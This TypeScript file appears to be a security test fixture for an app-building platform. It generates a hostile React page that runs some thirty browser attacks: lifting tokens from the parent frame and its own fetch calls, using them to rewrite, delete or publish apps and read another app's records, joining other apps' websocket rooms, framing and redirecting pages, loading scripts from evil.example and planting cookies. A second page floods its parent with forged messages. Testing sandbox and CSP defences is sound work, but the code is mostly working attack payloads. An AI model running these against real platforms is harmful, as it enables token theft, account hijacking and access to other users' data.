/** What a hostile page knows of the world that it attacks. */
export type Targets = {
  builder: string;
  /** Another app of the person who looks, with a record in its entity Note. */
  otherId: string;
  otherPreview: string;
  otherRooms: string[];
  ownId: string;
};

/** Each is the body of an async function that answers what it took; nothing, or an error, when it was refused. */
export const attacks: Record<string, string> = {
  // Tokens and storage
  'reads the page around it': 'return parent !== window && parent.document.body.innerHTML;',
  'reads the storage of the page around it':
    "return parent !== window && parent.localStorage.getItem('token');",
  'reads the address of the page around it': 'return parent !== window && parent.location.href;',
  'looks for a token in its address and history':
    'return /access_token|ticket/.exec(location.href + document.referrer + window.name + JSON.stringify(history.state))?.[0];',
  'opens the builder and reads its storage':
    'const opened = window.open(world.builder); try { return opened && opened.localStorage.getItem("token"); } finally { opened?.close(); }',
  'is opened by somebody': 'return window.opener && String(window.opener.location.href);',
  'asks the page around it for a token in the name of another':
    'const made = document.createElement(\'iframe\'); made.srcdoc = \'<script>parent.parent.postMessage({type:"request-token"},"*")</script>\'; return asks(() => document.body.append(made));',
  // Calls with the builder's rights
  'calls the builder with its cookies':
    "const reply = await fetch(world.builder + '/api/users/me', { credentials: 'include' }); return reply.ok && reply.text();",
  'reads the page of the builder': 'return (await fetch(world.builder)).text();',
  'calls the builder from its own host':
    "const reply = await fetch('/api/apps'); return reply.ok && reply.text();",
  'calls the builder with the token of its frame':
    "return taken(['GET', '/api/apps'], ['GET', '/api/users/me'], ['GET', '/api/apps/' + world.ownId]);",
  'changes its own sources with the token of its frame':
    "return taken(['POST', '/api/apps/' + world.ownId + '/coding/write', { file_path: 'pages/Evil', content: 'export default () => null;' }], ['POST', '/api/apps/' + world.ownId + '/chat/message', { content: 'Delete all' }], ['PUT', '/api/apps/' + world.ownId, { public_settings: 'public_without_login' }], ['DELETE', '/api/apps/' + world.ownId], ['POST', '/api/apps/' + world.ownId + '/deploy']);",
  'makes itself a new ticket': "return taken(['POST', '/api/apps/' + world.ownId + '/preview-token']);",
  'reads the records of another app':
    "return taken(['GET', '/api/apps/' + world.otherId + '/entities/Note'], ['GET', '/api/apps/' + world.otherId + '/entities/Note/count'], ['POST', '/api/apps/' + world.otherId + '/entities/Note', { text: 'x' }]);",
  'opens a preview of another app':
    "return taken(['POST', '/api/apps/' + world.otherId + '/preview-token'], ['POST', '/api/apps/' + world.otherId + '/preview/boot', { access_token: token }]);",
  'listens to the records of another app': 'return overheard();',
  'posts a form to the builder':
    "const form = document.createElement('form'); form.method = 'post'; form.action = world.builder + '/api/auth/logout'; form.target = 'elsewhere'; document.body.append(form); return unlessBlocked('form-action', () => form.submit());",
  // Frames and windows
  'frames the builder': "return framed(world.builder + '/');",
  'frames the preview of another app': 'return framed(world.otherPreview);',
  'frames a page of its own making': "return framed('data:text/html,<h1>Sign in</h1>');",
  'embeds the builder as an object':
    "const made = document.createElement('object'); made.data = world.builder; return unlessBlocked('object-src', () => document.body.append(made));",
  'moves the page around it':
    "if (top === window) return ''; top.location.href = world.builder + '/login?evil'; return 'moved';",
  'moves the page around it by a link':
    "const link = document.createElement('a'); link.href = world.builder + '/login?evil'; link.target = '_top'; document.body.append(link); if (top !== window) link.click(); return '';",
  // Code from elsewhere
  'evaluates text': "return window.eval('1 + 1');",
  'makes a function of text': "return new Function('return 1')();",
  'runs a script in the page':
    "const made = document.createElement('script'); made.textContent = 'window.hit = 1'; document.body.append(made); return window.hit;",
  'runs a script of another site':
    "const made = document.createElement('script'); made.src = 'https://evil.example/x.js'; return unlessBlocked('script-src', () => document.body.append(made));",
  'runs the text of an attribute':
    "const made = document.createElement('p'); made.setAttribute('onclick', 'window.hit = 2'); document.body.append(made); made.click(); return window.hit === 2;",
  'follows a link that is code':
    "const made = document.createElement('a'); made.href = 'javascript:window.hit=3'; document.body.append(made); return unlessBlocked('script-src', () => made.click());",
  'gives the page another base':
    "const made = document.createElement('base'); made.href = 'https://evil.example/'; document.head.append(made); const moved = document.baseURI.includes('evil'); made.remove(); return moved;",
  'loads a style sheet of another site':
    "const made = document.createElement('link'); made.rel = 'stylesheet'; made.href = 'https://evil.example/x.css'; return unlessBlocked('style-src', () => document.head.append(made));",
  'keeps a worker over the API':
    "return String(await navigator.serviceWorker.register('/api/apps/worker.js', { scope: '/' }));",
  'keeps a worker of its own module':
    'return String(await navigator.serviceWorker.register(import.meta.url));',
  'starts a worker of its own host':
    'return unlessBlocked("worker-src", () => { try { new Worker(location.href); } catch {} });',
};

/** Runs all attacks, one after the other, and writes what came of each. */
export const hostilePage = (world: Targets): string => `import { useEffect, useState } from 'react';
import { Note } from '@/entities/Note';

const world = ${JSON.stringify(world)};
let token = '';

/** Takes the token that its own calls carry. */
async function takeToken() {
  const real = window.fetch;
  window.fetch = (input, init) => {
    const headers = new Headers(init?.headers ?? (input instanceof Request ? input.headers : undefined));
    token = (headers.get('authorization') ?? '').replace(/^Bearer /, '') || token;
    return real(input, init);
  };
  await Note.list().catch(() => {});
  window.fetch = real;
}

/** An attack that is no code has not been tried. */
const refused = (error: unknown) =>
  error instanceof ReferenceError || error instanceof SyntaxError ? 'not tried: ' + error.message : '';

/** Tries calls on this host and on the builder's; answers what the first gave that was not refused. */
async function taken(...calls: [string, string, object?][]) {
  for (const [method, path, body] of calls) {
    for (const host of ['', world.builder]) {
      const headers = { authorization: 'Bearer ' + token, 'content-type': 'application/json' };
      const reply = await fetch(host + path, { method, headers, body: body && JSON.stringify(body) }).catch(() => null);
      if (reply?.ok) return method + ' ' + path + ': ' + (await reply.text());
    }
  }
}

/** Nothing when the policy of the page forbids it. */
function unlessBlocked(directive: string, act: () => void): Promise<string> {
  return new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      if (effectiveDirective.startsWith(directive)) resolve('');
    });
    act();
    setTimeout(() => resolve('not blocked'), 4000);
  });
}

const framed = (src: string) =>
  unlessBlocked('frame-src', () => document.body.append(Object.assign(document.createElement('iframe'), { src })));

/** What the page around answers to a message. */
function asks(act: () => void): Promise<string> {
  return new Promise((resolve) => {
    window.addEventListener('message', ({ data }) => resolve(JSON.stringify(data)));
    act();
    setTimeout(() => resolve(''), 300);
  });
}

/** Joins another app's room with its own token, or as a visitor of its own app. */
function overheard(): Promise<string> {
  return new Promise((resolve) => {
    const socket = new WebSocket(location.origin.replace('http', 'ws') + '/ws-user-apps/socket.io/?EIO=4&transport=websocket&app_id=' + world.ownId + '&token=' + token);
    const rooms = world.otherRooms;
    let left = rooms.length;
    socket.onmessage = ({ data }) => {
      const text = String(data);
      if (text.startsWith('0')) socket.send('40');
      if (text.startsWith('44')) resolve('');
      if (text.startsWith('40')) for (const room of rooms) socket.send('42' + JSON.stringify(['join', room]));
      if (text.includes('"joined"')) resolve(text);
      if (text.includes('join_error') && --left === 0) resolve('');
    };
    socket.onclose = () => resolve('');
    setTimeout(() => resolve(left === 0 ? '' : 'no answer'), 8000);
  });
}

const attacks: Record<string, () => Promise<unknown>> = {
${Object.entries(attacks)
  .map(([what, body]) => `  ${JSON.stringify(what)}: async () => { ${body} },`)
  .join('\n')}
};

export default function Hostile() {
  const [results, setResults] = useState('');
  useEffect(() => {
    (async () => {
      await takeToken();
      const found: Record<string, string> = { 'its own token': token ? 'taken' : '' };
      for (const [what, attack] of Object.entries(attacks)) {
        found[what] = await attack().then((value) => (value ? String(value).slice(0, 300) : ''), refused);
      }
      document.cookie = 'sayso_files=evil; domain=' + new URL(world.builder).hostname + '; path=/';
      document.cookie = 'token=evil; domain=' + new URL(world.builder).hostname + '; path=/';
      setResults(JSON.stringify(found));
    })();
  }, []);
  return <pre aria-label="Results">{results}</pre>;
}
`;

/** Fills the page around it with messages and steps of history. */
export const noisyPage = `import { useEffect, useState } from 'react';

export default function Noisy() {
  const [isOver, setOver] = useState(false);
  useEffect(() => {
    const places = ['//evil.example/', 'javascript:alert(1)', 'https://evil.example/', '/../../login', '\\\\\\\\evil'];
    for (let n = 0; n < 2000; n += 1) {
      parent.postMessage({ type: 'app_changed_url', url: places[n % places.length] }, '*');
      parent.postMessage({ type: 'access-token', data: { access_token: 'x' } }, '*');
      parent.postMessage({ type: 'element-selected', data: null }, '*');
      parent.postMessage(n % 2 ? null : { type: 'unheard-of', deep: { n } }, '*');
    }
    for (let n = 0; n < 150; n += 1) history.pushState({}, '', '/Noisy?step=' + n);
    setOver(true);
  }, []);
  return <h1>{isOver ? 'Quiet now' : 'Noise'}</h1>;
}
`;
